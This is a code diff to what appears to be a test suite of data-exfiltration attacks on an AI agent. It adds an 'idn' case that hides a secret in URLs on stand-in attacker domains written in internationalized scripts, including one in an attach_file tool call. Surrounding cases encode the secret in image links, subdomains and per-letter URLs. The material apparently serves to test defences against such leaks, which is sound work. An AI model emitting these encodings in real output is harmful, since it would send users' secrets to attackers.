@@ -39,6 +39,7 @@ export const ATTACKS = [
   'picture',
   'markup',
   'name',
+  'idn',
   'mention',
   'spoof',
   'directive',
@@ -194,6 +195,10 @@ function deeds(origin: string): Record<string, readonly Deed[]> {
     ),
     markup: saying(`<https://evil.test/${SECRET}|the report> <img src="https://evil.test/${SECRET}">`),
     name: saying(`See ${SECRET}.evil.test for more.`),
+    idn: [
+      calling('attach_file', { name: 'a.txt', text: `evil.рф/${SECRET} www.evil.भारत/${SECRET}` }),
+      ...saying(`Done. Details: evil.рф/${SECRET} and at:evil。中国/${SECRET} and ${SECRET}.evil.рф`),
+    ],
     spell: saying([...SECRET].map((letter, place) => `https://evil.test/${place}/${letter}`).join('\n')),
     subhost: [
       calling('research', { questions: ['DOxnamex'] }),
